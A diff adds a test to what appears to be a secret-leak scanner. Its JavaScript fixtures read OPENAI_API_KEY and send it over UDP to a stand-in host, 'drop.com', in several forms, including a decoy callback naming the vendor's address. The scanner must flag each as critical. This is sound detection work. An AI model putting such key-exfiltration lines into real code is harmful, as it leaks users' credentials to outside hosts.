@@ -4159,3 +4159,28 @@ Deno.test("a datagram's sendto goes to its address, held or made in place, whate
     ["info"],
   );
 });
+
+Deno.test("a Node datagram's send goes to its address, held, made in place or connected, whatever host its data or callback names", () => {
+  const header = "const dgram = require('dgram');\nconst key = process.env.OPENAI_API_KEY;\n";
+  const made = "dgram.createSocket('udp4')";
+  for (const data of ["Buffer.from(key)", "Buffer.from(key + ' api.openai.com')"]) {
+    for (
+      const text of [
+        `${header}${made}.send(${data}, 53, 'drop.com');\n`,
+        `${header}const s = ${made};\ns.send(${data}, 53, 'drop.com');\n`,
+        // send(msg, offset, length, port, address, callback), the callback naming a decoy.
+        `${header}${made}.send(${data}, 0, 64, 53, 'drop.com', () => log('api.openai.com'));\n`,
+        `${header}const HOST = 'drop.com';\nrequire('dgram').createSocket('udp4').send(${data}, 53, HOST);\n`,
+        `${header}const s = ${made};\ns.connect(53, 'drop.com');\ns.send(${data});\n`,
+      ]
+    ) assert.deepEqual(secretSeverities("scripts/a.js", text), ["critical"], text);
+  }
+  // The vendor's own key to the vendor's own address is only noted.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.js",
+      `${header}${made}.send(Buffer.from(key), 443, 'api.openai.com');\n`,
+    ),
+    ["info"],
+  );
+});
